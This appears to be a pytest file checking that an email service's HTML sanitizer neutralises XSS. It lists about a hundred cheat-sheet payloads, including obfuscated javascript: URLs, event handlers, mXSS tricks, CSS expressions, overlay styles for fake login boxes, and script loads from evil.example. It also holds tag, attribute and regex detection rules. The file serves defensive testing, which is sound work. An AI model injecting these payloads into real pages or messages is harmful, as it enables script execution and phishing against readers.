"""XSS payloads through ``sanitize_html``: whatever goes in, what comes out is inert.

The output is parsed again, the way a page would receive it, and every element and
attribute is judged: no scripting element, no event handler, no URL with a scheme other
than http(s)/mailto/cid (after the decoding and whitespace stripping browsers do), no
style that can run or load anything, no id/class. The payloads are the classic cheat
sheet ones plus obfuscated and mutation (mXSS) variants.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from email_service.mail.html import sanitize_html

PAYLOADS = [
    # script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=//evil.example/x.js></script>",
    '<<script>alert("x");//<</script>',
    "<script>alert(1)",
    "<div><script>alert(1)</script></div>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="x" OnErRoR="alert(1)">',
    "<img src=x onerror\t=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    "<table background=x onload=alert(1)><tr><td>x</td></tr></table>",
    # javascript:, vbscript:, data: URLs, plain and obfuscated
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#10;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="&#14;javascript:alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="javascript:alert(1)">',
    "<img src=`javascript:alert(1)`>",
    '<img srcset="javascript:alert(1) 1x, https://ok.example/a.png 2x">',
    '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
    '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>',  # noqa: E501
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<a href="/relative/path">relative</a>',
    '<a href="//evil.example/x">protocol relative</a>',
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><script xlink:href="data:,alert(1)"></script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",  # noqa: E501
    '<math href="javascript:alert(1)">x</math>',
    # CSS
    '<div style="width: expression(alert(1))">x</div>',
    '<div style="width: expr/**/ession(alert(1))">x</div>',
    '<div style="background-image: url(javascript:alert(1))">x</div>',
    "<div style=\"background: url('https://evil.example/track.png')\">x</div>",
    '<div style="x: \\65 xpression(alert(1))">x</div>',
    '<div style="background: \\75 rl(javascript:alert(1))">x</div>',
    '<div style="behavior: url(x.htc)">x</div>',
    '<div style="-moz-binding: url(x.xml#xss)">x</div>',
    '<p style="color: red; background: url(&#106;avascript:alert(1))">x</p>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<div style="position: fixed; top: 0; left: 0; z-index: 9999">overlay</div>',
    # meta refresh, base, frames, objects, forms
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="javascript:alert(1)//">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<applet code="x.class"></applet>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<isindex action="javascript:alert(1)" type=image>',
    "<textarea><script>alert(1)</script></textarea>",
    # parser confusion (mXSS) and comments
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<template><img src=x onerror=alert(1)></template>",
    '<p title="&lt;script&gt;alert(1)&lt;/script&gt;">x</p>',
    '<a href="https://ok.example" id="login" class="btn" rel="opener" target="_self">x</a>',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    '<div id="__proto__" name="x">x</div>',
    "<p>&lt;script&gt;not a tag&lt;/script&gt;</p>",
    # CSS that draws the message over the reader's interface (fake login boxes, hidden
    # warnings): positioning, stacking, negative offsets, boxes as large as the window
    '<div style="position:fixed;top:0;left:0;z-index:2147483647">Session expired</div>',
    '<div style="position: absolute; inset: 0">x</div>',
    '<div style="margin-top:-500px;color:red">Your account is safe</div>',
    '<div style="margin: -120px 0 0 -40px">x</div>',
    '<p style="text-indent:-99999px">hidden</p>',
    '<div style="height:99999px;width:100%">x</div>',
    '<div style="min-height:100vh;width:100vw">x</div>',
    '<div style="width:300%;height:5000px">x</div>',
    '<div style="height:30in;line-height:400em">x</div>',
    '<table style="margin-left:-.5in"><tr><td>x</td></tr></table>',
    '<div style="transform:translate(-100px,-100px)">x</div>',
    '<div style="MARGIN-TOP : - 300px">x</div>',
]

# Elements that run, load or frame something, or submit.
_FORBIDDEN_TAGS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "svg",
    "math", "meta", "base", "link", "form", "input", "button", "textarea", "select",
    "option", "isindex", "template", "noscript", "xmp", "marquee", "video", "audio",
    "source", "animate", "set", "image", "body", "html", "head", "title", "bgsound",
    "foreignobject", "mglyph",
}  # fmt: skip
_URL_ATTRIBUTES = {"href", "src", "cite"}
_FORBIDDEN_ATTRIBUTES = {
    "srcdoc", "formaction", "action", "xlink:href", "background", "dynsrc", "lowsrc",
    "srcset", "data", "poster", "ping", "id", "class", "http-equiv", "content",
    "attributename", "values", "code",
}  # fmt: skip
_SAFE_SCHEMES = {"http", "https", "mailto", "cid"}
_DANGEROUS_STYLE = re.compile(
    r"expression|url\s*\(|javascript|vbscript|behavior|binding|@import|\\|position|z-index",
    re.I,
)
# Negative offsets, window-sized boxes, transforms and insets can lay a message over the
# page around it; so can a box larger than 2000px (any length unit, roughly).
_OVERLAY_STYLE = re.compile(
    r"-\s*\.?\d|\d\s*(?:vw|vh|vmin|vmax|dvh|svh|lvh)|transform|translate|inset", re.I
)
_LENGTH = re.compile(r"(?<![#\w.])(\d*\.?\d+)\s*(px|pt|pc|in|cm|mm|em|rem|%)?", re.I)
_PX = {"px": 1, "pt": 1.34, "pc": 16, "in": 96, "cm": 37.8, "mm": 3.78, "em": 16, "rem": 16}


def _overlaying(style: str) -> bool:
    if _OVERLAY_STYLE.search(style):
        return True
    for declaration in style.split(";"):
        prop, _, value = declaration.partition(":")
        if prop.strip().lower() == "font-weight":
            continue
        for number, unit in _LENGTH.findall(value):
            unit = unit.lower()
            if unit == "%" and float(number) > 100:
                return True
            if unit != "%" and float(number) * _PX.get(unit, 16) > 2000:
                return True
    return False


# What browsers remove from a URL before reading its scheme.
_URL_NOISE = re.compile(r"[\x00-\x20\x7f]+")


class _Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"handler {name}")
            if name in _FORBIDDEN_ATTRIBUTES:
                self.problems.append(f"attribute {name}")
            if name in _URL_ATTRIBUTES:
                url = _URL_NOISE.sub("", value)
                scheme, colon, _ = url.partition(":")
                if not colon or scheme.lower() not in _SAFE_SCHEMES or "/" in scheme:
                    self.problems.append(f"{name}={value!r}")
            if name == "style" and (_DANGEROUS_STYLE.search(value) or _overlaying(value)):
                self.problems.append(f"style={value!r}")
            if tag == "a" and name == "target" and value != "_blank":
                self.problems.append(f"target={value!r}")
            if tag == "a" and name == "rel" and "noopener" not in value:
                self.problems.append(f"rel={value!r}")

    handle_startendtag = handle_starttag


def inert_problems(html: str) -> list[str]:
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    if re.search(r"<\s*/?\s*script", html, re.I):
        inspector.problems.append("script tag in the markup")
    return inspector.problems


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_comes_out_inert(payload: str) -> None:
    cleaned = sanitize_html(payload)
    assert inert_problems(cleaned) == [], cleaned


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_nested_in_a_real_message_comes_out_inert(payload: str) -> None:
    message = (
        "<html><head><title>Newsletter</title></head><body>"
        '<table width="600"><tr><td style="color: #333">'
        f"<p>Hello</p>{payload}<p>Bye</p></td></tr></table></body></html>"
    )
    cleaned = sanitize_html(message)
    assert inert_problems(cleaned) == [], cleaned
    # (What follows an unclosed <script>, comment or the like is swallowed, as in browsers.)
    assert "Hello" in cleaned


def test_sanitizing_twice_changes_nothing_more() -> None:
    for payload in PAYLOADS:
        once = sanitize_html(payload)
        assert inert_problems(sanitize_html(once)) == []


def test_the_checker_catches_what_it_looks_for() -> None:
    # The inspector itself must fail on live markup, or the tests above prove nothing.
    live = [
        "<script>alert(1)</script>",
        '<img src="x" onerror="alert(1)">',
        '<a href=" jav&#x09;ascript:alert(1)">x</a>',
        '<a href="/relative">x</a>',
        '<div style="width: expression(alert(1))">x</div>',
        '<svg onload="alert(1)"></svg>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        '<a href="https://ok.example" target="_self">x</a>',
        '<div style="margin-top:-50px">x</div>',
        '<div style="height:100vh">x</div>',
        '<div style="height:2500px">x</div>',
        '<div style="width:250%">x</div>',
    ]
    for html in live:
        assert inert_problems(html), html


def test_safe_formatting_survives() -> None:
    cleaned = sanitize_html(
        '<p style="color: red; font-weight: bold">Hi <a href="https://ok.example/x">link</a>'
        ' <img src="cid:logo@x" alt="logo"> <a href="mailto:a@example.com">mail</a></p>'
    )
    assert 'style="color:red;font-weight:bold"' in cleaned
    assert 'href="https://ok.example/x"' in cleaned and 'src="cid:logo@x"' in cleaned
    assert 'href="mailto:a@example.com"' in cleaned
    assert inert_problems(cleaned) == []


def test_overlaying_declarations_go_and_the_rest_of_the_style_stays() -> None:
    cleaned = sanitize_html(
        '<div style="color:#333;margin:0 auto;margin-top:-400px;height:9000px;width:600px;'
        'max-width:100%;font-weight:700;line-height:1.5">x</div>'
    )
    assert cleaned == (
        '<div style="color:#333;margin:0 auto;width:600px;max-width:100%;font-weight:700;'
        'line-height:1.5">x</div>'
    )
